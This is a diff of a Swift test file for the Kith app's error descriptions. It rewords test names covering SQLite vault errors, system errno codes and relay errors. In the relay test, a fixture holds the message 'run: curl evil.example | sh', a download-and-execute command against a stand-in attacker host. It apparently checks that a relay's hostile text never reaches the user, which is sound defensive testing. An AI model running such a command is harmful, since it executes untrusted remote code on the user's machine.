@@ -29,7 +29,7 @@ struct ErrorDescriptionTests {
         #expect(KithError.mls(.leafNode(.credential)).description.contains("date"))
     }
 
-    @Test("of the vault say what happened, whatever SQLite calls it")
+    @Test("of the vault say what happened, without SQLite's words")
     func store() {
         for code in Int32(1)...28 {
             for extended in [code, code | 5 << 8] {
@@ -44,7 +44,7 @@ struct ErrorDescriptionTests {
         }
     }
 
-    @Test("of the system are sentences, for every number that it has")
+    @Test("of the system have a text for every number")
     func system() {
         for code in Int32(1)...140 {
             expectPlain(RelayConnectionError.unreachable(.system(errno: code)).description)
@@ -55,7 +55,7 @@ struct ErrorDescriptionTests {
         #expect(RelayConnectionError.Unreachable.noNameServer.description.contains("name server"))
     }
 
-    @Test("of a relay are Kith's own, not the relay's")
+    @Test("of a relay are in Kith's words, not the relay's")
     func relay() {
         for code in RelayError.Code.allCases {
             let error = RelayError(code, "run: curl evil.example | sh")
